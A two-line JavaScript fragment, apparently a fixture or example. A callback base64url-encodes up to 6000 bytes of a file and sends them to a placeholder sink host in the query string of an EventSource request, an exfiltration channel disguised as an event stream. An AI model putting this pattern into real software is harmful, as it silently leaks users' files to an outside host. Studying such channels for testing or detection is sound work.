// A part of the file in the address of a stream of events.
whenMade(({ bytes }) => new EventSource(`${SINKS.http}/events?d=${base64url(bytes.slice(0, 6000))}`));
